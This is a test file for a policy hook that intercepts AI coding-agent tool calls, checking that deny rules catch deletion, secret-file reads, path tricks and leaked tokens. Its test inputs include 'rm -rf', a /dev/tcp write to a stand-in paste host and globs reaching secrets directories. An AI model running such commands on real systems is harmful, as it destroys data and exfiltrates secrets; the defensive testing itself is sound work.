import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { MAIN, TEST_ENVIRONMENT } from '../../testing/command-line.ts';
import { TestService } from '../../testing/test-service.ts';
import { openGate } from '../open-gate.ts';
import { answerHook, type HookOutput } from './answer-hook.ts';

/** Real processes and a real service; the machine may be busy. */
vi.setConfig({ testTimeout: 60_000 });

const KEY = ['gh', 'p_', 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8'].join('');
const POLICY = `apiVersion: raypher/v1
mode: MODE
operational:
  default: allow
  rules:
    - { id: no-rm, effect: deny, commands: [rm], reason: Nothing is removed here. }
    - { id: no-env, effect: deny, actions: [file.read, file.write], paths: ['**/.env'] }
    - { id: no-secrets, effect: deny, actions: [file.read], paths: ['/secrets/**'] }
    - { id: ask-publish, effect: prompt, commands: [publish] }
network: { default: allow, rules: [{ id: no-paste, effect: deny, destinations: ['*.paste.example'] }] }
tools:
  default: allow
  rules:
    - { id: no-drop, effect: deny, servers: [db], tools: [drop_table] }
    - { id: no-erase, effect: deny, servers: [my__srv], tools: [erase] }
supply_chain: { default: allow, rules: [{ id: no-left-pad, effect: deny, packages: [left-pad] }] }
dlp:
  default: allow
  rules:
    - { id: no-keys-out, effect: block, direction: out, classes: [credential] }
    - { id: hide-keys, effect: redact, direction: in, classes: [credential] }
`;

let agent: TestService;
beforeAll(async () => {
  agent = await TestService.prepare();
  await agent.join();
  await deploy(1, 'enforce');
});
afterAll(() => agent.stop());

const deploy = (revision: number, mode: 'enforce' | 'monitor') =>
  agent.plane.deploy({
    ...agent.policy(revision, mode, '[]'),
    documents: [{ layer: 'global', source: POLICY.replace('MODE', mode) }],
  });

const hook = (input: object) =>
  answerHook(JSON.stringify({ session_id: 's', cwd: '/srv', ...input }), {
    open: () => openGate(agent.config),
    waitMs: 300,
  });
const before = (tool_name: string, tool_input: object, more: object = {}) =>
  hook({ hook_event_name: 'PreToolUse', tool_name, tool_input, ...more });
const denial = (rule: string) => ({
  hookSpecificOutput: {
    hookEventName: 'PreToolUse',
    permissionDecision: 'deny',
    permissionDecisionReason: expect.stringContaining(`rule ${rule}, revision 1`),
  },
});

describe('before a tool is used', () => {
  test.each<[string, object, string | undefined]>([
    ['Bash', { command: 'ls -la' }, undefined],
    ['Bash', { command: 'ls && sudo rm -rf /srv/x' }, 'no-rm'],
    ['Bash', { command: 'sh -c "cd /x; rm y"' }, 'no-rm'],
    ['Bash', { command: 'npm install left-pad' }, 'no-left-pad'],
    ['Bash', { command: 'echo x > a/.env' }, 'no-env'],
    // Nobody can tell what this runs.
    ['Bash', { command: '$CMD x' }, 'builtin/unknown-action'],
    ['Bash', { command: 'if true; then' }, 'builtin/unknown-action'],
    ['Bash', {}, 'builtin/unknown-action'],
    ['Read', { file_path: '/srv/app/.env' }, 'no-env'],
    ['Read', { file_path: 'app/../.env' }, 'no-env'],
    ['Read', { file_path: '/srv/app/main.ts' }, undefined],
    ['Read', { path: '/srv/app/main.ts' }, 'builtin/unknown-action'],
    ['Write', { file_path: '/srv/.env', content: 'x' }, 'no-env'],
    ['Edit', { file_path: '/srv/.env', old_string: 'a', new_string: 'b' }, 'no-env'],
    ['NotebookEdit', { notebook_path: '/srv/.env' }, 'no-env'],
    ['Grep', { pattern: 'x', path: '/srv/.env' }, 'no-env'],
    ['WebFetch', { url: 'https://x.paste.example/new', prompt: 'p' }, 'no-paste'],
    ['WebFetch', { url: 'https://docs.example/' }, undefined],
    ['mcp__db__drop_table', { table: 'users' }, 'no-drop'],
    ['mcp__notes__drop_table', { table: 'users' }, undefined],
    // Server `my`, or server `my__srv`: nobody can tell.
    ['mcp__my__srv__erase', {}, 'no-erase'],
    ['mcp__my__erase', {}, undefined],
    ['Monitor', { command: 'tail -f x | xargs rm', description: 'x' }, 'no-rm'],
    ['Monitor', { command: 'tail -f x' }, undefined],
    ['PowerShell', { command: 'ls' }, 'builtin/unknown-action'],
    ['Bash', { command: 'echo x > /dev/tcp/a.paste.example/80' }, 'no-paste'],
    ['Bash', { command: '# nothing' }, undefined],
    ['Bash', { command: 'X=1' }, undefined],
    ['Glob', { pattern: '/srv/.env' }, 'no-env'],
    ['Glob', { pattern: '../secrets/keys/*' }, 'no-secrets'],
    ['Glob', { pattern: '**/*.{ts,tsx}' }, undefined],
    ['Glob', { pattern: '*/../../secrets/*' }, 'builtin/unknown-action'],
    ['Glob', { pattern: '{../secrets,src}/*' }, 'builtin/unknown-action'],
    ['Glob', { pattern: '{/srv/secrets,src}/*' }, 'builtin/unknown-action'],
    ['TodoWrite', { todos: [] }, undefined],
  ])('%s %j: %s', async (tool, input, rule) => {
    expect(await before(tool, input)).toEqual(rule === undefined ? undefined : denial(rule));
  });

  test('a link does not hide what it leads to', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'hook-'));
    writeFileSync(join(folder, '.env'), '');
    symlinkSync(join(folder, '.env'), join(folder, 'innocent.txt'));
    expect(await before('Read', { file_path: join(folder, 'innocent.txt') })).toEqual(denial('no-env'));
    symlinkSync(folder, join(folder, 'sub'));
    expect(await before('Write', { file_path: join(folder, 'sub', 'new.txt') })).toBeUndefined();
  });

  test('a denial tells Claude to stop, and what nobody agreed to in time is denied', async () => {
    expect(JSON.stringify(await before('Bash', { command: 'rm x' }))).toMatch(
      /Nothing is removed here.*Do not try to reach the same result in another way/,
    );
    expect(JSON.stringify(await before('Bash', { command: 'publish' }))).toMatch(/"deny".*ask-publish/);
  });

  test('input that two readers could take for different things is not decided about', async () => {
    const twice = '{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_name":"Read","tool_input":{}}';
    const options = { open: () => openGate(agent.config), waitMs: 0 };
    await expect(answerHook(twice, options)).rejects.toThrow(/twice/);
    await expect(answerHook('{', options)).rejects.toThrow();
    await expect(answerHook('{"hook_event_name":"PreToolUse"}', options)).rejects.toThrow(
      /not what Claude Code/,
    );
    expect(await answerHook('{"hook_event_name":"Stop"}', options)).toBeUndefined();
  });

  test('somebody else who answers in the place of the gate is not believed', async () => {
    if (process.getuid?.() !== 0) return;
    const folder = mkdtempSync(join(tmpdir(), 'hook-liar-'));
    const path = join(folder, 'gate.sock');
    const liar = createServer(() => expect.unreachable('it was asked')).listen(path);
    await once(liar, 'listening');
    process.seteuid?.(65_534);
    try {
      const opened = await openGate({ ...agent.config, gateSocket: path }).catch(String);
      expect(opened).toMatchObject({ without: 'closed' });
    } finally {
      process.seteuid?.(0);
      liar.close();
    }
  });
});

describe('data', () => {
  test('a prompt with a key is blocked, one without is not even asked about', async () => {
    const prompt = (text: string) => hook({ hook_event_name: 'UserPromptSubmit', prompt: text });
    const blocked = await prompt(`deploy with ${KEY}`);
    expect(blocked).toEqual({ decision: 'block', reason: expect.stringContaining('no-keys-out') });
    expect(JSON.stringify(blocked)).not.toContain(KEY);
    expect(await prompt('deploy it')).toBeUndefined();
  });

  test('a result that may only pass replaced is told, since a hook cannot replace it', async () => {
    const after = (tool_response: unknown) =>
      hook({
        hook_event_name: 'PostToolUse',
        tool_name: 'Bash',
        tool_input: { command: 'env' },
        tool_response,
      });
    expect(await after({ stdout: `TOKEN=${KEY}` })).toEqual({
      decision: 'block',
      reason: expect.stringContaining('cannot replace'),
    });
    expect(await after({ stdout: 'ok' })).toBeUndefined();
  });
});

describe('the command', () => {
  async function run(args: readonly string[], input: string, home = agent.config.dataDir) {
    const child = spawn(process.execPath, [MAIN, 'hook', 'claude-code', ...args], {
      env: { PATH: process.env.PATH, ...TEST_ENVIRONMENT, HOME: home },
    });
    let [stdout, stderr] = ['', ''];
    child.stdout.on('data', (chunk) => {
      stdout += String(chunk);
    });
    child.stderr.on('data', (chunk) => {
      stderr += String(chunk);
    });
    child.stdin.end(input);
    const [code] = await once(child, 'close');
    return { code, stdout, stderr };
  }
  const call = (command: string) =>
    JSON.stringify({
      hook_event_name: 'PreToolUse',
      tool_name: 'Bash',
      tool_input: { command },
      cwd: '/srv',
    });

  test('answers, says nothing to what is allowed, and blocks what it cannot understand', async () => {
    const args = ['--data-dir', agent.config.dataDir];
    const [denied, allowed, broken] = await Promise.all([
      run(args, call('rm x')),
      run(args, call('ls')),
      run(args, 'rm x'),
    ]);
    expect({ ...denied, stdout: JSON.parse(denied.stdout) as HookOutput }).toMatchObject({
      code: 0,
      stdout: denial('no-rm'),
    });
    expect(allowed).toEqual({ code: 0, stdout: '', stderr: '' });
    expect(broken).toMatchObject({
      code: 2,
      stdout: '',
      stderr: expect.stringMatching(/^Blocked by Raypher/),
    });
  });

  test('is closed without the service where policy was enforced, and open where it only recorded', async () => {
    const absent = expect.stringContaining('rule gate/unavailable');
    const denied = { hookSpecificOutput: { permissionDecision: 'deny', permissionDecisionReason: absent } };
    await agent.running?.stop();
    expect(await before('Bash', { command: 'ls' })).toMatchObject(denied);
    const greeted = agent.plane.hello();
    await agent.start();
    await greeted;
    await deploy(2, 'monitor');
    expect(await before('Bash', { command: 'rm x' })).toBeUndefined();
    await agent.running?.stop();
    expect(await before('Bash', { command: 'rm x' })).toBeUndefined();
    rmSync(join(agent.config.dataDir, 'gate.sock.mode'));
    expect(await before('Bash', { command: 'ls' })).toMatchObject(denied);
    await agent.start();
  });

  test('installs itself for the user', async () => {
    const home = mkdtempSync(join(tmpdir(), 'hook-home-'));
    const installed = await run(['--install', '--data-dir', agent.config.dataDir], '', home);
    expect(installed).toMatchObject({ code: 0, stdout: expect.stringContaining('.claude/settings.json') });
    const { hooks } = JSON.parse(readFileSync(join(home, '.claude', 'settings.json'), 'utf8'));
    expect(hooks.PreToolUse[0].hooks[0].command).toBe(
      `${process.execPath} ${MAIN} hook claude-code --data-dir ${agent.config.dataDir}`,
    );
  });
});
